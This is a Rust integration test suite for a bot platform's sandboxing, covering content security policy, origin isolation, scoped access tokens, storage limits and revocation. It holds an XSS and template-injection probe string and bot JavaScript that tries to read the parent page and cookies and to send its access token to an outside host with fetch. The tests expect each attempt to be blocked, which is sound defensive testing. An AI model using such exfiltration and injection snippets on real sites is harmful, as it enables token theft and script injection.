//! Bots: written at `dev`, installed in a space, run at a host of their own.

use crate::browser::{Browser, House, Page};
use crate::chromium::{Chromium, served};
use crate::harbour::{Harbour, between};
use crate::on_both;
use app::access;
use app::bots::installing::{self, Wish};
use app::bots::{About, Source, create, get};
use domain::ids::{BotId, UserId};
use domain::navigation::Section;

pub const PROBE: &str = "<script>alert(1)</script>\"'>{{7*7}}";

pub fn about(name: &str, section: Section, scopes: &str) -> About {
    let description = "Says who is here.".to_owned();
    About { name: name.into(), description, section, authenticate: true, scopes: scopes.parse().unwrap() }
}

/// A bot by its author; with its id, what its link holds.
async fn a_bot(house: &House, author: UserId, about: About) -> (BotId, String) {
    let source = Source { html: "<p id=\"a\">One</p>".into(), javascript: "window.ran = 1".into(), ..Source::default() };
    let id = create(&house.app, author, about, source).await.unwrap();
    (id, get(&house.app, author, id).await.unwrap().bot.share)
}

/// The path of its page in Harbour.
async fn installed(harbour: &Harbour<'_>, share: &str, section: Section) -> String {
    let link = installing::install(&harbour.house.app, &harbour.access, share, Wish { section, keep: false }).await.unwrap();
    link.section.path(link.id)
}

/// The address of the frame: path at the runner.
fn code(page: &Page) -> String {
    format!("/run/{}", between(page, "src=\"https://bots.kontor.test/run/", "\""))
}

fn policy(page: &Page) -> &str {
    page.headers["content-security-policy"].to_str().unwrap()
}

/// What the page of a bot was given.
struct Given {
    access: String,
    storage: String,
}

/// Lets the bot in where that is asked, and takes the page from the runner.
async fn run(browser: &mut Browser<'_>, path: &str) -> Given {
    let mut page = browser.get("harbour", path).await;
    if page.text.contains("/allow\"") {
        browser.submit(&page, &format!("{path}/allow"), &[]).await;
        page = browser.get("harbour", path).await;
    }
    let shown = browser.get("bots", &code(&page)).await;
    assert_eq!(shown.status, 200, "{}", shown.text);
    Given { access: between(&shown, "data-access-token=\"", "\"").into(), storage: between(&shown, "data-storage-token=\"", "\"").into() }
}

/// A call of the storage: status and body.
async fn keep(house: &House, given: &Given, (method, path): (&str, &str), body: &str) -> (u16, String) {
    let page = house.browser().bearer(&given.storage, method, "bots", path, body).await;
    assert_eq!(page.headers["access-control-allow-origin"], "*", "{path}");
    (page.status.as_u16(), page.text)
}

on_both! {
    async fn bots_are_written_at_the_developers_site(db: db::Db) {
        let house = House::new(db);
        let (_ada, _eve) = (house.person("ada@example.org").await, house.person("eve@example.org").await);
        assert_eq!(house.browser().get("dev", "/bots").await.location(), "/session/new?return_to=%2Fbots");
        let mut ada = house.browser();
        ada.sign_in("dev", "ada@example.org").await;
        assert!(ada.get("dev", "/bots").await.text.contains("You have none yet"));
        let page = ada.get("dev", "/bots/new").await;
        let wrong = ada.submit(&page, "/bots", &[("name", " "), ("section", "members"), ("scopes", "read_minds")]).await;
        assert!(wrong.status == 422 && wrong.text.contains("scopes-problem"), "{}", wrong.text);
        let wrong = ada.submit(&page, "/bots", &[("name", " "), ("section", "members"), ("scopes", "navigation"), ("description", PROBE)]).await;
        assert!(wrong.status == 422 && wrong.text.contains("name-problem") && wrong.text.contains("must not hold navigation"), "{}", wrong.text);
        assert!(!wrong.text.contains("<script>alert"), "{}", wrong.text);
        let fields = [("name", PROBE), ("section", "members"), ("description", PROBE), ("authenticate", "yes"), ("scopes", "read_user")];
        let made = ada.submit(&page, "/bots", &fields).await;
        let path = made.location().to_owned();
        assert!(made.status == 303 && path.starts_with("/bots/"), "{}", made.text);

        let page = ada.get("dev", &path).await;
        assert!(page.text.contains("version 1") && page.text.contains("Cobot.Api(cobot.access_token)") && !page.text.contains("<script>alert"), "{}", page.text);
        assert!(policy(&page).contains("frame-src https://bots.kontor.test"), "{}", policy(&page));
        let bad = ada.submit(&page, &path, &[("html", "<b>kept"), ("scss", "a {}\n@mixin b {}")]).await;
        assert!(bad.status == 422 && bad.text.contains("line 2: @mixin is not known here") && bad.text.contains("&#60;b&#62;kept"), "{}", bad.text);
        let big = "x".repeat(domain::bots::MOST_JAVASCRIPT + 1);
        let bad = ada.submit(&page, &path, &[("javascript", &big)]).await;
        assert!(bad.status == 422 && bad.text.contains("JavaScript must have at most 128 KiB"), "{}", bad.status);
        let saved = ada.submit(&page, &path, &[("html", "<b>two"), ("scss", "$a: red; b { color: $a; }")]).await;
        assert_eq!((saved.status.as_u16(), saved.location()), (303, &*path));
        let late = ada.submit(&page, &path, &[("html", "<b>three")]).await;
        assert!(late.status == 422 && late.text.contains("There is a newer version by now") && late.text.contains("three"), "{}", late.text);
        let page = ada.get("dev", &path).await;
        let same = ada.submit(&page, &path, &[("html", "<b>two"), ("scss", "$a: red; b { color: $a; }")]).await;
        assert_eq!(same.status, 303);
        let history = ada.get("dev", &format!("{path}/history")).await;
        assert!(history.text.contains("Version 2") && !history.text.contains("Version 3") && history.text.contains("Nothing happened yet"), "{}", history.text);
        let style = ada.get("bots", &format!("/code{}/2/style.css", &path[5..])).await;
        assert_eq!((style.status.as_u16(), style.text.trim()), (200, "b { color: red; }"));

        let old = ada.get("dev", &format!("{path}/versions/1")).await;
        ada.submit(&old, &format!("{path}/versions/1"), &[]).await;
        assert!(ada.get("dev", &path).await.text.contains("version 3"));

        // Nobody else finds any of it.
        let mut eve = house.browser();
        eve.sign_in("dev", "eve@example.org").await;
        for part in ["", "/about", "/history", "/versions/1", "/delete"] {
            assert_eq!(eve.get("dev", &format!("{path}{part}")).await.status, 404, "{part}");
        }
        let share = ada.get("dev", &format!("{path}/about")).await;
        let link = between(&share, "/install/", "\"").to_owned();
        assert_eq!(house.browser().get("dev", &format!("/install/{link}")).await.status, 200);
        ada.submit(&share, &format!("{path}/share"), &[]).await;
        assert_eq!(house.browser().get("dev", &format!("/install/{link}")).await.status, 404);
        let page = ada.get("dev", &format!("{path}/delete")).await;
        assert_eq!(ada.submit(&page, &format!("{path}/delete"), &[]).await.location(), "/bots");
        assert_eq!(ada.get("dev", &path).await.status, 404);
        assert_eq!(ada.get("dev", "/bots/x").await.status, 404);
    }

    async fn admins_install_bots_by_a_link(db: db::Db) {
        let house = House::new(db);
        let harbour = Harbour::new(&house).await;
        harbour.another().await;
        let ada = house.person("ada@example.org").await;
        let (id, share) = a_bot(&house, ada, about(PROBE, Section::Members, "read_memberships write_charges")).await;
        let page = house.browser().get("dev", &format!("/install/{share}")).await;
        assert!(page.status == 200 && !page.text.contains("<script>alert"), "{}", page.text);
        assert_eq!(house.browser().get("dev", &format!("/install/{share}?space=x")).await.status, 422);
        let here = format!("/admin/add_ons/install/{share}");
        let led = house.browser().get("dev", &format!("/install/{share}?space=Harbour")).await;
        assert_eq!(led.location(), format!("https://harbour.kontor.test{here}"));
        assert!(house.browser().get("harbour", &here).await.location().starts_with("/session/new"));
        let (_, mut mara) = harbour.member("Mara").await;
        assert_eq!(mara.get("harbour", &here).await.status, 403);
        let mut paul = house.browser();
        paul.sign_in("harbour", "paul@example.org").await;
        for path in [&*here, "/admin/add_ons"] {
            assert_eq!(paul.get("harbour", path).await.status, 404, "{path}");
        }

        let mut olga = harbour.olga().await;
        assert!(olga.get("harbour", "/admin/add_ons").await.text.contains("Nothing yet"));
        assert_eq!(olga.get("harbour", "/admin/add_ons/install/none").await.status, 404);
        let ask = olga.get("harbour", &here).await;
        assert!(ask.text.contains("See memberships and their plans") && ask.text.contains("Make and change charges") && !ask.text.contains("<script>alert"), "{}", ask.text);
        assert_eq!(olga.submit(&ask, &here, &[("section", "nowhere")]).await.status, 422);
        let done = olga.submit(&ask, &here, &[("section", "admin/manage"), ("keep", "yes")]).await;
        let path = done.location().to_owned();
        assert!(done.status == 303 && path.starts_with("/admin/navigation_links/"), "{}", done.text);
        assert_eq!(olga.submit(&ask, &here, &[("section", "members")]).await.status, 422, "once is enough");
        let list = olga.get("harbour", "/admin/add_ons").await;
        assert!(list.text.contains("Bot, version 1") && list.text.contains(&format!("href=\"{path}\"")) && !list.text.contains("<script>alert"), "{}", list.text);
        assert_eq!(mara.get("harbour", &path).await.status, 404, "it is for admins");

        // A version is kept to until somebody says otherwise.
        app::bots::save(&house.app, ada, id, 1, Source { html: "<i>new".into(), ..Source::default() }).await.unwrap();
        let list = olga.get("harbour", "/admin/add_ons").await;
        assert!(list.text.contains("there is 2"), "{}", list.text);
        let keep = format!("/admin/add_ons/bots/{id}/keep");
        assert_eq!(olga.submit(&list, &keep, &[]).await.status, 303);
        let list = olga.get("harbour", "/admin/add_ons").await;
        assert!(list.text.contains("Bot, version 2") && list.text.contains("Always the newest"), "{}", list.text);
        assert_eq!(olga.submit(&list, &keep, &[]).await.status, 303);
        assert!(olga.get("harbour", "/admin/add_ons").await.text.contains("version 2, always the newest"));
        let log = app::bots::history(&house.app, ada, id).await.unwrap().1;
        assert_eq!((log[0].kind.name(), log[0].space.as_deref()), ("installed", Some("harbour")));

        let remove = format!("/admin/add_ons/bots/{id}/remove");
        let page = olga.get("harbour", &remove).await;
        assert_eq!(paul.send("POST", "harbour", &remove, "").await.status, 403);
        assert_eq!(olga.submit(&page, &remove, &[]).await.status, 303);
        assert_eq!(olga.get("harbour", &path).await.status, 404);
        assert_eq!(olga.get("harbour", &remove).await.status, 404);
    }

    async fn a_bot_acts_for_who_lets_it_and_for_nobody_else(db: db::Db) {
        let house = House::new(db);
        let harbour = Harbour::new(&house).await;
        let ada = house.person("ada@example.org").await;
        let (id, share) = a_bot(&house, ada, about("Board", Section::Members, "read_check_ins read_user")).await;
        let path = installed(&harbour, &share, Section::Members).await;
        let (_, mut mara) = harbour.member("Mara").await;
        assert!(mara.get("harbour", "/bookings").await.text.contains(&format!("<a href=\"{path}\">Board</a>")), "it is in the menu");
        let asked = mara.get("harbour", &path).await;
        assert!(asked.text.contains("See who is in the space") && !asked.text.contains("<iframe"), "{}", asked.text);
        assert_eq!(mara.send("POST", "harbour", &format!("{path}/allow"), "").await.status, 403, "a form of somebody else");
        mara.submit(&asked, &format!("{path}/allow"), &[]).await;
        let page = mara.get("harbour", &path).await;
        assert!(policy(&page).contains("frame-src https://bots.kontor.test") && !page.text.contains("allow-same-origin"), "{}", policy(&page));
        let frame = code(&page);
        let shown = house.browser().get("bots", &frame).await;
        assert!(shown.status == 200 && shown.text.contains("<p id=\"a\">One</p>"), "{}", shown.text);
        let strict = policy(&shown);
        assert!(strict.contains("sandbox allow-scripts") && !strict.contains("allow-same-origin") && strict.contains("frame-ancestors https://harbour.kontor.test;"), "{strict}");
        assert!(!strict.contains("'unsafe-inline' https://bots.kontor.test/assets") && strict.contains("script-src https://bots.kontor.test/assets/"), "{strict}");
        assert_eq!((&shown.headers["referrer-policy"], &shown.headers["cache-control"]), (&"no-referrer".parse().unwrap(), &"no-store".parse().unwrap()));
        assert_eq!(house.browser().get("bots", &frame).await.status, 410, "a code is good once");
        let token = between(&shown, "data-access-token=\"", "\"").to_owned();
        let caller = access::authenticate(&house.app, &token).await.unwrap();
        assert_eq!((caller.scopes.to_string(), caller.personal, caller.bound_to), ("read_check_ins read_user".into(), true, Some(harbour.access.space_id())));

        // Codes end, and more scopes are asked for anew.
        let frame = code(&mara.get("harbour", &path).await);
        house.app.clock.set(house.app.clock.now() + jiff::SignedDuration::from_secs(61));
        assert_eq!(house.browser().get("bots", &frame).await.status, 410);
        app::bots::describe(&house.app, ada, id, about("Board", Section::Members, "read_check_ins read_user read_bookings")).await.unwrap();
        assert!(mara.get("harbour", &path).await.text.contains("See bookings"));

        // In the account it is taken back as with any application.
        let page = mara.get("harbour", "/account").await;
        let action = page.text.split("action=\"").map(|rest| rest.split('"').next().unwrap()).find(|action| action.contains("applications")).unwrap().to_owned();
        mara.submit(&page, &action, &[]).await;
        assert!(access::authenticate(&house.app, &token).await.is_err());

        // Without a token where it asks for nobody's.
        let (_, share) = a_bot(&house, ada, About { authenticate: false, ..about("Clock", Section::Members, "read_user") }).await;
        let path = installed(&harbour, &share, Section::Members).await;
        let given = run(&mut mara, &path).await;
        assert_eq!((given.access.as_str(), given.storage.len()), ("", 64));
    }

    async fn what_a_bot_keeps_is_its_own_and_the_spaces(db: db::Db) {
        let house = House::new(db);
        let harbour = Harbour::new(&house).await;
        let ada = house.person("ada@example.org").await;
        let mut paths = vec![];
        for name in ["One", "Two"] {
            let about = About { authenticate: false, ..about(name, Section::Members, "") };
            let (_, share) = a_bot(&house, ada, about).await;
            paths.push((installed(&harbour, &share, Section::Members).await, share));
        }
        let (_, mut mara) = harbour.member("Mara").await;
        let mut olga = harbour.olga().await;
        let (one, of_olga) = (run(&mut mara, &paths[0].0).await, run(&mut olga, &paths[0].0).await);
        let two = run(&mut mara, &paths[1].0).await;
        let entry = "/storage/entry?key=a%2Fb";
        assert_eq!(keep(&house, &one, ("GET", entry), "").await, (200, "{\"value\":null}".into()));
        assert_eq!(keep(&house, &one, ("PUT", entry), "{\"n\":[1,\"<b>\"]}").await.0, 204);
        assert_eq!(keep(&house, &of_olga, ("GET", entry), "").await.1, "{\"value\":{\"n\":[1,\"<b>\"]}}", "all who see it share it");
        assert_eq!(keep(&house, &two, ("GET", entry), "").await.1, "{\"value\":null}", "another bot has its own");
        assert_eq!(keep(&house, &one, ("GET", "/storage?prefix=a"), "").await.1, "{\"keys\":[\"a/b\"]}");
        assert_eq!(keep(&house, &one, ("GET", "/storage?prefix=b"), "").await.1, "{\"keys\":[]}");

        // Another space has its own, too.
        harbour.another().await;
        let paul = house.caller(house.app.db.read(async |tx| store::users::find_by_email(tx, "paul@example.org").await).await.unwrap().unwrap().id, "read write").await;
        let pier = access::enter_as(&house.app, &paul, access::Place::Subdomain("pier".into()), &[], access::Door::Related).await.unwrap();
        let link = installing::install(&house.app, &pier, &paths[0].1, Wish { section: Section::Manage, keep: false }).await.unwrap();
        let mut browser = house.browser();
        browser.sign_in("pier", "paul@example.org").await;
        let page = browser.get("pier", &link.section.path(link.id)).await;
        let shown = browser.get("bots", &code(&page)).await;
        let there = Given { access: String::new(), storage: between(&shown, "data-storage-token=\"", "\"").into() };
        assert_eq!(keep(&house, &there, ("GET", "/storage"), "").await.1, "{\"keys\":[]}");

        // Limits are told.
        let long = format!("/storage/entry?key={}", "k".repeat(201));
        for (call, body, code) in [(("PUT", &*long), "1", "key"), (("PUT", entry), "{", "JSON"), (("PUT", "/storage/entry"), "1", "key")] {
            let (status, said) = keep(&house, &one, call, body).await;
            assert!(status == 422 && said.contains(code), "{call:?}: {said}");
        }
        let large = format!("\"{}\"", "x".repeat(65_000));
        for n in 0..16 {
            assert_eq!(keep(&house, &two, ("PUT", &format!("/storage/entry?key=k{n}")), &large).await.0, 204, "{n}");
        }
        let (status, said) = keep(&house, &two, ("PUT", "/storage/entry?key=more"), &large).await;
        assert!(status == 422 && said.contains("1 MiB"), "{said}");
        assert_eq!(keep(&house, &two, ("PUT", "/storage/entry?key=k3"), "1").await.0, 204, "less fits");
        assert_eq!(keep(&house, &two, ("PUT", "/storage/entry?key=big"), &format!("\"{}\"", "x".repeat(70_000))).await.0, 422);
        let mut last = 0;
        for _ in 0..domain::bots::CALLS_A_MINUTE {
            last = keep(&house, &two, ("GET", "/storage"), "").await.0;
        }
        assert_eq!(last, 429);
        assert_eq!(keep(&house, &one, ("DELETE", entry), "").await.0, 204, "others go on");
        assert_eq!(keep(&house, &one, ("GET", "/storage"), "").await.1, "{\"keys\":[]}");

        // Without a good token nothing; nor once the bot is gone.
        let nobody = Given { access: String::new(), storage: "0".repeat(64) };
        assert_eq!(keep(&house, &nobody, ("GET", "/storage"), "").await.0, 401);
        assert_eq!(keep(&house, &Given { storage: String::new(), ..nobody }, ("GET", "/storage"), "").await.0, 401);
        assert_eq!(keep(&house, &one, ("POST", "/log"), "{\"text\":\"It broke\\u0000 <b>\"}").await.0, 204);
        let id = app::bots::list(&house.app, ada).await.unwrap().into_iter().find(|bot| bot.name == "One").unwrap().id;
        let log = app::bots::history(&house.app, ada, id).await.unwrap().1;
        assert!(log.iter().any(|line| line.text == "It broke  <b>" && line.space.as_deref() == Some("harbour")), "{log:?}");
        installing::remove(&house.app, &harbour.access, id).await.unwrap();
        assert_eq!(keep(&house, &one, ("GET", "/storage"), "").await.0, 401);
    }

    async fn who_has_left_the_space_opens_nothing(db: db::Db) {
        let house = House::new(db);
        let harbour = Harbour::new(&house).await;
        let ada = house.person("ada@example.org").await;
        let (_, share) = a_bot(&house, ada, about("Board", Section::Members, "read_user")).await;
        let path = installed(&harbour, &share, Section::Members).await;
        let (id, mut mara) = harbour.member("Mara").await;
        let given = run(&mut mara, &path).await;
        assert_eq!(keep(&house, &given, ("GET", "/storage"), "").await.0, 200);
        let frame = code(&mara.get("harbour", &path).await);
        let space = harbour.access.space_id();
        let left = async move |tx: &mut db::Tx| tx.execute("UPDATE memberships SET user_id = NULL WHERE space_id = $1 AND id = $2", db::params![space.0, id.0]).await;
        house.app.db.write(left).await.unwrap();
        assert_eq!(keep(&house, &given, ("GET", "/storage"), "").await.0, 401);
        assert_ne!(house.browser().get("bots", &frame).await.status, 200);
    }

    async fn a_bot_in_its_frame_lists_members_and_reads_nothing_of_the_page_around(db: db::Db) {
        let Some(chromium) = Chromium::start() else { return };
        let (house, site) = served(db).await;
        let harbour = Harbour::new(&house).await;
        harbour.invited("Mara").await;
        let ada = house.person("ada@example.org").await;
        let javascript = r"
            const say = (id, text) => { document.getElementById(id).textContent = text }
            const storage = Cobot.Storage(cobot.storage_token)
            $(async () => {
              try { say('parent', parent.document.title) } catch (refused) { say('parent', `closed: ${refused.name}`) }
              try { say('cookies', document.cookie || 'none') } catch (refused) { say('cookies', `closed: ${refused.name}`) }
              say('leak', await fetch('https://example.org/?' + cobot.access_token).then(() => 'out', () => 'held'))
              const members = await Cobot.Api(cobot.access_token).get(cobot.subdomain, '/memberships')
              say('members', members.map(member => member.name).join())
              await storage.set('seen', { count: members.length })
              say('kept', JSON.stringify(await storage.get('seen')) + (await storage.list()).join())
              const refused = await Cobot.Api(cobot.access_token).get(cobot.subdomain, '/invoices').catch(refused => refused)
              say('refused', `${refused.status} ${typeof refused.responseJSON}`)
              console.error('for the author', cobot.access_token)
              Cobot.iframeResize(777)
              say('done', 'yes')
            })";
        let html = ["parent", "cookies", "leak", "members", "kept", "refused", "done"].map(|id| format!("<p id=\"{id}\"></p>")).join("");
        let source = Source { html, javascript: javascript.into(), scss: "$c: rgb(1, 2, 3); p { color: $c; }".into(), ..Source::default() };
        let id = create(&house.app, ada, about("List", Section::Manage, "read_memberships"), source).await.unwrap();
        let share = get(&house.app, ada, id).await.unwrap().bot.share;
        let path = installed(&harbour, &share, Section::Manage).await;

        let tab = chromium.person(&site, (1280, 800)).await;
        tab.sign_in("olga@example.org").await;
        tab.open(&path).await;
        tab.click("form[action$='/allow'] button").await;
        tab.until("document.querySelector('iframe')?.style.height === '779px'").await;
        let said = tab.inside_frame("Object.fromEntries([...document.querySelectorAll('p')].map(p => [p.id, p.textContent]))").await;
        assert_eq!(said["members"], "Mara", "{said}");
        assert_eq!(said["kept"], "{\"count\":1}seen");
        assert_eq!(said["refused"], "403 object");
        assert_eq!((said["parent"].as_str(), said["cookies"].as_str(), said["leak"].as_str()), (Some("closed: SecurityError"), Some("closed: SecurityError"), Some("held")));
        assert_eq!(tab.inside_frame("getComputedStyle(document.querySelector('p')).color").await, "rgb(1, 2, 3)");
        let logged = async || {
            let log = app::bots::history(&house.app, ada, id).await.unwrap().1;
            log.into_iter().find(|line| line.text.contains("for the author")).map(|line| line.text)
        };
        let mut found = logged().await;
        for _ in 0..200 {
            if found.is_some() {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            found = logged().await;
        }
        assert_eq!(found.as_deref(), Some("for the author [token]"));
    }

    async fn the_editor_shows_what_is_typed(db: db::Db) {
        let Some(chromium) = Chromium::start() else { return };
        let (house, site) = served(db).await;
        let ada = house.person("ada@example.org").await;
        let (id, _) = a_bot(&house, ada, about("Board", Section::Members, "read_user")).await;
        let tab = chromium.person(&site.replace("harbour", "dev"), (1280, 800)).await;
        tab.sign_in("ada@example.org").await;
        tab.open(&format!("/bots/{id}")).await;
        tab.until("document.querySelectorAll('[role=tab]').length === 4 && !document.querySelector('section.preview').hidden").await;
        let hidden = tab.eval("[...document.querySelectorAll('[data-part]')].map(part => part.hidden).join()").await;
        assert_eq!(hidden, "false,true,true,true");
        tab.eval("(() => { const form = document.querySelector('form[data-bot]'); form.elements.html.value = '<p>typed</p>'; \
            form.elements.scss.value = '$c: rgb(4, 5, 6); p { color: $c }'; \
            form.elements.javascript.value = 'document.body.append(String(cobot.access_token) + typeof $)'; \
            form.dispatchEvent(new Event('input')); })()").await;
        let text = "document.body.innerText.trim() + getComputedStyle(document.querySelector('p') ?? document.body).color";
        let mut said = serde_json::Value::Null;
        for _ in 0..300 {
            said = tab.inside_frame(text).await;
            if said.as_str().is_some_and(|said| said.contains("typed") && said.contains("rgb(4, 5, 6)")) {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        let said = said.as_str().unwrap_or_default().to_owned();
        assert!(said.contains("typed") && said.contains("nullfunction") && said.contains("rgb(4, 5, 6)"), "{said}");
        tab.eval("document.querySelector('form[data-bot]').elements.scss.value = 'p {'; document.querySelector('form[data-bot]').dispatchEvent(new Event('input'))").await;
        tab.until("document.querySelector('[data-told]').textContent.includes('a { has no }')").await;
    }
}
